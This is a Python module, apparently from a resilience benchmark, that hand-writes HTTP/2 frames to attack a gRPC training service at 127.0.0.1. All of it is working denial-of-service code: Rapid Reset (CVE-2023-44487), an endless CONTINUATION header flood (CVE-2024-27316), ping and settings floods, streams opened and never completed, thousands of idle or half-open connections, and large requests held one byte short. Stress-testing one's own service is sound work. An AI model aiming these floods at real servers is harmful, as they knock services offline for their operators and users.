"""Abuse of HTTP/2, by frames that are written without a library (RFC 9113 and RFC 7541)."""

import socket
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from queue import SimpleQueue
from threading import Event, Thread

from bench.attacks.attack import Outcomes, Victim, count_closed, keep_open, together

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
WINDOW_UPDATE, CONTINUATION = 8, 9
ACK, END_STREAM, END_HEADERS = 0x1, 0x1, 0x4
_CANCEL = struct.pack(">I", 8)
_AT_ONCE = 100
_HELD = 31 * 2**19
_NAMES = {RST_STREAM: "RST_STREAM", GOAWAY: "GOAWAY"}


def frame(kind: int, flags: int = 0, stream: int = 0, content: bytes = b"") -> bytes:
    """Return a frame."""
    return struct.pack(">I", len(content))[1:] + struct.pack(">BBI", kind, flags, stream) + content


def block(fields: dict[str, str]) -> bytes:
    """Return a block of header fields: literals without indexing and without Huffman's code."""
    return b"".join(b"\0" + _string(name) + _string(value) for name, value in fields.items())


def _string(text: str) -> bytes:
    content = text.encode()
    return _integer(len(content)) + content


def _integer(value: int) -> bytes:
    """Return an integer with a prefix of seven bits."""
    if value < 127:
        return bytes([value])
    written, value = [127], value - 127
    while value >= 128:
        written.append(value % 128 + 128)
        value //= 128
    return bytes([*written, value])


def call_head(method: str) -> bytes:
    """Return the header fields of a call."""
    return block(
        {
            ":method": "POST",
            ":scheme": "http",
            ":path": f"/clearprop.v1.TrainingService/{method}",
            ":authority": "127.0.0.1",
            "content-type": "application/grpc",
            "te": "trailers",
        }
    )


def opened(victim: Victim) -> socket.socket:
    """Return a connection that has said its preface. Raises OSError."""
    connection = victim.connect(victim.grpc)
    connection.sendall(PREFACE + frame(SETTINGS))
    return connection


@contextmanager
def _reading(
    connection: socket.socket, ended: Event, outcomes: Outcomes
) -> Iterator["SimpleQueue[bytes]"]:
    """Read and count what the server sends, so that it is not what blocks; leave at the end.

    Yields the answers to its pings, which others must write.
    """
    answers: SimpleQueue[bytes] = SimpleQueue()
    reader = Thread(target=_read, args=(connection, outcomes, answers), daemon=True)
    reader.start()
    Thread(target=_leave, args=(connection, ended), daemon=True).start()
    try:
        yield answers
    finally:
        with suppress(OSError):
            connection.shutdown(socket.SHUT_RDWR)
        connection.close()
        reader.join(5)


def _leave(connection: socket.socket, ended: Event) -> None:
    """Close a connection at the end, even while a thread waits until it can write."""
    while not ended.wait(0.2):
        if connection.fileno() < 0:
            return
    with suppress(OSError):
        connection.shutdown(socket.SHUT_RDWR)


def _read(connection: socket.socket, outcomes: Outcomes, answers: "SimpleQueue[bytes]") -> None:
    left = b""
    with suppress(OSError):
        connection.settimeout(None)
        while received := connection.recv(65536):
            left += received
            at = 0
            while len(left) >= at + 9:
                size = 9 + int.from_bytes(left[at : at + 3], "big")
                if len(left) < at + size:
                    break
                if left[at + 3] in _NAMES:
                    outcomes.add(_NAMES[left[at + 3]])
                elif left[at + 3] == PING and not left[at + 4] & ACK:
                    answers.put(frame(PING, ACK, content=left[at + 9 : at + size]))
                at += size
            left = left[at:]


def _flood(
    victim: Victim, ended: Event, outcomes: Outcomes, what: Callable[[int], bytes], name: str
) -> None:
    """Write frames as fast as the server takes them, again on a new connection when it closes."""
    while not ended.is_set():
        try:
            connection = opened(victim)
        except OSError as error:
            outcomes.add(type(error).__name__)
            time.sleep(0.05)
            continue
        with _reading(connection, ended, outcomes) as answers:
            number = 0
            try:
                while not ended.is_set():
                    while not answers.empty():
                        connection.sendall(answers.get())
                    connection.sendall(b"".join(what(number + each) for each in range(_AT_ONCE)))
                    number += _AT_ONCE
                    outcomes.add(name, _AT_ONCE)
            except OSError:
                outcomes.add("closed by the server")


def rapid_reset(victim: Victim, ended: Event, outcomes: Outcomes) -> None:
    """Begin calls and cancel each at once, on one connection (CVE-2023-44487)."""
    head = call_head("GetNetwork")

    def reset(number: int) -> bytes:
        stream = 2 * number + 1
        return (
            frame(HEADERS, END_HEADERS, stream, head)
            + frame(DATA, END_STREAM, stream, b"\0\0\0\0\6\n\4none")
            + frame(RST_STREAM, 0, stream, _CANCEL)
        )

    _flood(victim, ended, outcomes, reset, "resets")


def ping_flood(victim: Victim, ended: Event, outcomes: Outcomes) -> None:
    """Ping without end."""
    _flood(victim, ended, outcomes, lambda _: frame(PING, content=b"12345678"), "pings")


def settings_flood(victim: Victim, ended: Event, outcomes: Outcomes) -> None:
    """Change the settings without end; each change must be acknowledged."""
    change = struct.pack(">HI", 3, 100)
    _flood(victim, ended, outcomes, lambda _: frame(SETTINGS, content=change), "settings")


def endless_heads(victim: Victim, ended: Event, outcomes: Outcomes) -> None:
    """Send the header fields of a call that never end (CVE-2024-27316)."""
    more = block({f"x-{number}": "v" * 1000 for number in range(10)})

    def part(number: int) -> bytes:
        if number == 0:
            return frame(HEADERS, 0, 1, call_head("GetNetwork"))
        return frame(CONTINUATION, 0, 1, more)

    _flood(victim, ended, outcomes, part, "frames")


def silent_streams(victim: Victim, ended: Event, outcomes: Outcomes) -> None:
    """Begin 400 calls of every kind on ten connections, and never send a request."""
    methods = ("Predict", "UploadTrainingSet", "WatchUpdates", "GetState")
    beginning = b"".join(
        frame(HEADERS, END_HEADERS, 2 * number + 1, call_head(methods[number % len(methods)]))
        for number in range(40)
    )

    def open_one() -> socket.socket:
        connection = opened(victim)
        connection.sendall(beginning)
        return connection

    connections = keep_open(open_one, 10, ended, outcomes)
    ended.wait()
    count_closed(connections, outcomes)


def idle_connections(victim: Victim, ended: Event, outcomes: Outcomes) -> None:
    """Open 2,000 connections that do nothing, and 2,000 with half a preface."""

    def half() -> socket.socket:
        connection = victim.connect(victim.grpc)
        connection.sendall(PREFACE[:10])
        return connection

    connections = keep_open(lambda: opened(victim), 2_000, ended, outcomes)
    connections += keep_open(half, 2_000, ended, outcomes)
    ended.wait()
    count_closed(connections, outcomes)


def held_requests(victim: Victim, ended: Event, outcomes: Outcomes) -> None:
    """Send requests of 15.5 MiB on 40 connections, all but the last byte of each."""

    def hold() -> None:
        try:
            connection = opened(victim)
        except OSError as error:
            outcomes.add(type(error).__name__)
            return
        with connection, suppress(OSError):
            connection.settimeout(0.5)
            connection.sendall(frame(HEADERS, END_HEADERS, 1, call_head("Predict")))
            if _send_within_windows(connection, b"\0" + struct.pack(">I", _HELD + 1), ended):
                outcomes.add("requests held")
            ended.wait()

    together(40, hold)


def _send_within_windows(connection: socket.socket, begun: bytes, ended: Event) -> bool:
    """Send the beginning of a request and zeros on stream 1, as the server's windows allow."""
    windows, left, sent = {0: 65_535, 1: 65_535}, b"", 0
    request = begun + bytes(_HELD)
    while sent < len(request) and not ended.is_set():
        room = min(*windows.values(), 16_384, len(request) - sent)
        if room > 0:
            connection.sendall(frame(DATA, 0, 1, request[sent : sent + room]))
            sent += room
            windows = {stream: window - room for stream, window in windows.items()}
            continue
        with suppress(TimeoutError):
            received = connection.recv(65_536)
            if not received:
                return False
            left += received
        while len(left) >= 9 and len(left) >= (size := 9 + int.from_bytes(left[:3], "big")):
            kind, stream = left[3], int.from_bytes(left[5:9], "big")
            if kind == WINDOW_UPDATE:
                windows[stream] += int.from_bytes(left[9:13], "big")
            elif kind in _NAMES or kind == HEADERS:
                return False
            elif kind == SETTINGS and not left[4]:
                windows[1] += _initial_window(left[9:size])
                connection.sendall(frame(SETTINGS, 1))
            left = left[size:]
    return sent == len(request)


def _initial_window(settings: bytes) -> int:
    """Return by how much settings enlarge the windows of new streams."""
    pairs = [struct.unpack(">HI", settings[at : at + 6]) for at in range(0, len(settings), 6)]
    return sum(value - 65_535 for name, value in pairs if name == 4)
